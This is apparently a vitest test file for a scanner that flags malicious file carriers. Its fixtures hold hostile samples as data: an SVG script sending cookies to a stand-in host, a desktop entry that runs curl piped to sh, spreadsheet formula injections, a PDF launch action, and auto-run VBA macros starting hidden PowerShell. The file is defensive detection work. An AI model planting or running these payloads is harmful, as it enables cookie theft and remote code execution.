import { describe, expect, test } from "vitest";
import { brief, findingsIn } from "../analyse-files.ts";
import { unpack } from "../../../src/unpack/unpack.ts";
import { DEFAULT_LIMITS } from "../../../src/unpack/limits.ts";
import { buildZip } from "../../unpack/build-zip.ts";

const svg = (inside: string): string => `<svg xmlns="http://www.w3.org/2000/svg">\n${inside}\n</svg>\n`;
const desktop = (exec: string): string => `[Desktop Entry]\nType=Application\nName=Letter\nExec=${exec}\n`;
const pdf = (action: string): string =>
  `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n5 0 obj\n${action}\nendobj\n%%EOF\n`;

describe("form alone is worth a look, a deed settles it", () => {
  test.each([
    [
      "a picture with a script",
      { "logo.svg": svg("<script>console.log(1)</script>") },
      "carrier/active-image medium medium logo.svg:2",
    ],
    [
      "a picture that sends cookies",
      {
        "logo.svg": svg(
          '<script>fetch("https://p.some-host.example/p", { method: "POST", body: document.cookie })</script>',
        ),
      },
      "carrier/active-image high high logo.svg:2",
    ],
    [
      "an entry that downloads",
      { "Letter.desktop": desktop('sh -c "curl -s https://x.some-host.example/p | sh"') },
      "carrier/shortcut high high Letter.desktop:4",
    ],
    [
      "a cell that starts a program",
      { "sheet.csv": "a,b\n1,\"=cmd|'/C calc'!A0\"\n" },
      "carrier/document-action high high sheet.csv:2",
    ],
    [
      "a cell with a plus",
      { "sheet.tsv": "a\tb\n1\t+powershell|'-w hidden'!A1\n" },
      "carrier/document-action high high sheet.tsv:2",
    ],
    [
      "a document that launches",
      { "a.pdf": pdf("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>") },
      "carrier/document-action high high a.pdf:1",
    ],
  ])("%s", async (_name, files, expected) => {
    expect(await brief(files, "carrier/")).toEqual([expected]);
  });

  test.each([
    ["a plain picture", { "logo.svg": svg('<circle r="9"/>') }],
    ["an entry for a script of its own", { "Letter.desktop": desktop("/opt/letters/run.sh %F") }],
    ["an internet shortcut", { "Docs.url": "[InternetShortcut]\nURL=https://docs.some-vendor.example/\n" }],
    ["a formula", { "sheet.csv": "a,b\n1,=SUM(A1:A2)\n" }],
    ["pipes in a cell", { "sheet.csv": "a,b\n1,ps aux | grep 'x'!\n" }],
    ["a page with a link", { "a.pdf": pdf("<< /S /URI /URI (https://docs.some-vendor.example/) >>") }],
  ])("not: %s", async (_name, files) => {
    expect(await brief(files, "carrier/")).toEqual([]);
  });
});

const skill = (commands: string): string => `# Chess\n\n## Engine\n\n\`\`\`bash\n${commands}\n\`\`\`\n`;

describe("an archive with a password", () => {
  const zip = buildZip([{ name: "engine", content: "x".repeat(40), flags: 1, method: 0 }]);
  test.each([
    [
      "that the text gives away, and starts",
      "unzip -P chess engine.zip -d ~/.chess\nchmod +x ~/.chess/engine\n~/.chess/engine",
      "high high",
    ],
    ["that the text gives away", "unzip -P chess engine.zip -d ~/.chess\nls ~/.chess", "medium medium"],
    ["for another archive", "unzip -P chess other.zip -d ~/.chess\n~/.chess/engine", "medium medium"],
  ])("%s", async (_name, commands, expected) => {
    const found = await brief({ "engine.zip": zip, "SKILL.md": skill(commands) }, "carrier/encrypted");
    expect(found).toEqual([`carrier/encrypted-archive ${expected} engine.zip:1`]);
  });
});

const document = async (macro: string): Promise<Readonly<Record<string, Uint8Array>>> => {
  const archive = buildZip([{ name: "word/vbaProject.bin", content: macro }]);
  const entry = { path: "offer.docm", bytes: archive, mode: null };
  const outer = buildZip([{ name: entry.path, content: archive }]);
  const tree = await unpack({ kind: "archive", format: "zip", bytes: outer, strip: 0 }, DEFAULT_LIMITS);
  return Object.fromEntries(tree.files.map(({ path, bytes }) => [path, bytes]));
};

const macro = (body: string): string =>
  `Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n${body}\r\nEnd Sub\r\n`;

describe("a document with macros", () => {
  test.each([
    ["that start a program", macro('  Shell "powershell -w hidden -c calc", vbHide'), "high high"],
    [
      "that put a command together",
      macro('  p = "cmd" & " /c "\r\n  CreateObject("WScript.Shell").Run p & Chr(99) & "alc", 0'),
      "high high",
    ],
    ["that count pages", macro('  MsgBox "Pages: " & ActiveDocument.ComputeStatistics(2)'), "medium medium"],
  ])("%s", async (_name, text, expected) => {
    const found = await findingsIn(await document(text));
    const carriers = found.filter(({ id }) => id === "carrier/macro-document");
    expect(carriers.map(({ severity, confidence }) => `${severity} ${confidence}`)).toEqual([expected]);
  });
});
